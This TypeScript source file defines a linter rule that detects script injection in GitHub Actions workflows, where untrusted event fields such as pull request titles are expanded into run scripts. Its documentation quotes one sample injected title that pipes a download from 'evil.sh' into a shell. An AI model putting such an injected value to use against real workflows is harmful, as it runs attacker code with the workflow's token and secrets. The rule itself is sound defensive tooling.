import type { Rule } from '@deckcheck/core'
import { onSlide } from '../examples.ts'
import { expressions, GITHUB_KINDS, parseUses, steps, textPlace } from '../github/workflow.ts'
import { get } from '../data.ts'
import type { ParsedYaml } from '../parse.ts'

/** Contexts an outsider can write (a PR title, a branch name, a comment), as actionlint lists them. */
const UNTRUSTED = /\b(github\.event\.[\w.*[\]'"-]+|github\.head_ref)\b/
/** Event fields that are numbers, ids, SHAs, dates or flags: not a vector. */
const SAFE = /\.(number|id|node_id|sha|[a-z]+_(id|sha|at|count)|run_number|run_attempt|size|draft|merged|private|fork|additions|deletions|changed_files|commits)$/

export const ghaScriptInjection: Rule<ParsedYaml> = {
  id: 'yaml/gha-script-injection',
  aliases: ['template-injection', 'untrusted-inputs'],
  language: 'yaml',
  kinds: GITHUB_KINDS,
  category: 'security',
  severity: 'error',
  docs: {
    description: 'An attacker-controlled `${{ github.event… }}` (or `github.head_ref`) expanded inside a `run:` script or a github-script `script:`.',
    why: 'The expression is pasted into the script before the shell sees it: a pull request titled `"; curl evil.sh | sh; echo "` runs that command with the workflow\'s token and secrets. Pass the value through `env:` and quote the variable: the shell then treats it as data.',
    bad: [onSlide('- name: Greet\n  run: echo "Thanks for ${{ github.event.pull_request.title }}"\n')],
    good: [onSlide('- name: Greet\n  env:\n    TITLE: ${{ github.event.pull_request.title }}\n  run: echo "Thanks for $TITLE"\n')],
    references: ['https://docs.zizmor.sh/audits/#template-injection', 'https://docs.github.com/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections'],
  },
  check({ snippet, parsed, report }) {
    for (const { document, step, path } of steps(parsed)) {
      const isScript = parseUses(step.uses)?.action === 'actions/github-script'
      const scriptPath = isScript ? [...path, 'with', 'script'] : [...path, 'run']
      const script = isScript ? get(step, ['with', 'script']) : step.run
      if (typeof script !== 'string') continue
      for (const { expression, text, occurrence } of expressions(script)) {
        const match = UNTRUSTED.exec(expression)
        if (!match || SAFE.test(match[1]!)) continue
        report({
          message: `\`${match[1]}\` is expanded into the script, where whoever wrote it can inject commands: pass it through \`env:\` (\`VALUE: \${{ ${match[1]} }}\`) and use \`"$VALUE"\`.`,
          place: textPlace(snippet.value, document, scriptPath, text, occurrence),
        })
      }
    }
  },
}
